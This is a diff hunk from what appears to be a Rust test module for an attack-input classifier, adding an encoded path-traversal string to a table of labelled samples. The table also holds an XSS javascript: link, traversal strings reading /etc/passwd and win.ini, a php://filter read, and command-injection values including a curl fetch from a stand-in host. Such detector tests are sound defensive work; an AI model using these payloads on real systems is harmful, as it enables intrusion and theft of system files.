@@ -207,6 +207,7 @@ mod tests {
             ("<a href=\"javascript:alert(9)\">x</a>", Category::Xss),
             ("../../../../etc/passwd", Category::PathTraversal),
             ("..\\..\\..\\windows\\win.ini", Category::PathTraversal),
+            ("/0x2e0x2e0x5c0x2e0x2e0x5cboot", Category::PathTraversal),
             ("php://filter/convert.base64-encode/resource=index", Category::PathTraversal),
             ("; cat /etc/hostname", Category::RemoteCodeExecution),
             ("$(curl http://e.example/x)", Category::RemoteCodeExecution),
